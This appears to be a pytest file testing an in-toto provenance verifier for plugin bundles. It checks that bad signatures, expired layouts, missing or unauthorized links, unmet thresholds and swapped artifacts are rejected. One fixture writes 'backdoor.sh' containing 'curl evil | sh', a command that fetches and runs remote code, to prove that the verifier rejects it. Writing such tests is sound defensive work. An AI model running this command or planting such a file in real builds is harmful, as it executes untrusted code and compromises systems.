"""in-toto layouts and links built and signed by the test, verified by ``verify-provenance --layout``."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.provenance.intoto_build import party, write_layout, write_link
from tests.signature.cliutil import invoke


@pytest.fixture
def chain(tmp_path: Path) -> dict[str, Path]:
    work = tmp_path / "work"
    work.mkdir()
    links = tmp_path / "links"
    links.mkdir()
    artifact = work / "plugin.tgz"
    artifact.write_bytes(b"plugin bundle bytes")
    return {"tmp": tmp_path, "work": work, "links": links, "artifact": artifact}


def _verify(chain: dict[str, Path], layout: Path, key: Path, *extra: str) -> object:
    return invoke(
        "verify-provenance",
        chain["artifact"],
        "--layout",
        layout,
        "--layout-key",
        key,
        "--links",
        chain["links"],
        *extra,
    )


def test_valid_chain_verifies(chain: dict[str, Path]) -> None:
    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder])
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz"])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 0, outcome.output
    assert "in-toto layout verified" in outcome.output


def test_layout_signed_by_another_key_is_denied(chain: dict[str, Path]) -> None:
    owner, other, builder = (party(chain["tmp"], n) for n in ("owner", "other", "builder"))
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, other, [builder])
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz"])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-010" in outcome.output


def test_expired_layout_is_denied(chain: dict[str, Path]) -> None:
    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder], expires="2020-01-01T00:00:00Z")
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz"])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-011" in outcome.output and "2020-01-01" in outcome.output


def test_missing_link_is_denied(chain: dict[str, Path]) -> None:
    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-012" in outcome.output and "build" in outcome.output


def test_link_by_unauthorized_functionary_is_denied(chain: dict[str, Path]) -> None:
    owner, builder, intruder = (party(chain["tmp"], n) for n in ("owner", "builder", "intruder"))
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder])
    link = write_link(chain["links"], chain["work"], intruder, ["plugin.tgz"])
    link.rename(chain["links"] / f"build.{builder.keyid[:8]}.link")
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-012" in outcome.output


def test_threshold_not_met_is_denied(chain: dict[str, Path]) -> None:
    owner, b1, b2 = (party(chain["tmp"], n) for n in ("owner", "b1", "b2"))
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [b1, b2], threshold=2)
    write_link(chain["links"], chain["work"], b1, ["plugin.tgz"])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-012" in outcome.output


def test_artifact_rule_violation_is_denied(chain: dict[str, Path]) -> None:
    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder])
    (chain["work"] / "backdoor.sh").write_text("curl evil | sh\n")
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz", "backdoor.sh"])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-013" in outcome.output and "backdoor.sh" in outcome.output


def test_artifact_not_a_product_is_denied(chain: dict[str, Path]) -> None:
    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder])
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz"])
    chain["artifact"].write_bytes(b"swapped after the build")
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 1
    assert "PG-PRV-015" in outcome.output


def test_inspections_do_not_run_unless_enabled(chain: dict[str, Path]) -> None:
    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    marker = chain["tmp"] / "inspection-ran"
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder], inspections=[{"name": "touch", "run": f"touch {marker}"}])
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz"])
    outcome = _verify(chain, layout, owner.pub_path)
    assert outcome.code == 0, outcome.output
    assert not marker.exists()
    outcome = _verify(chain, layout, owner.pub_path, "--enable-inspections")
    assert outcome.code == 0, outcome.output
    assert marker.exists()


def test_policy_layout_through_the_provenance_step(chain: dict[str, Path]) -> None:
    import hashlib

    from plugingate.policy import model
    from plugingate.provenance.step import verify_bundle_provenance

    owner, builder = party(chain["tmp"], "owner"), party(chain["tmp"], "builder")
    layout = chain["tmp"] / "root.layout"
    write_layout(layout, owner, [builder])
    write_link(chain["links"], chain["work"], builder, ["plugin.tgz"])
    digest = "sha256:" + hashlib.sha256(chain["artifact"].read_bytes()).hexdigest()
    section = model.ProvenancePolicy(
        required=True, in_toto=model.InTotoPolicy(layout=layout, layout_keys=(owner.pub_path,))
    )
    result = verify_bundle_provenance(
        chain["artifact"],
        digest,
        section,
        attestation=None,
        signature_section=model.SignaturePolicy(),
        links_dir=chain["links"],
    )
    assert result.verified, result.findings
    assert result.to_dict()["inToto"]["steps"] == ["build"]  # type: ignore[index]
    result = verify_bundle_provenance(
        chain["artifact"],
        digest,
        section,
        attestation=None,
        signature_section=model.SignaturePolicy(),
        links_dir=None,
    )
    assert [f.rule_id for f in result.findings] == ["PG-PRV-012"]
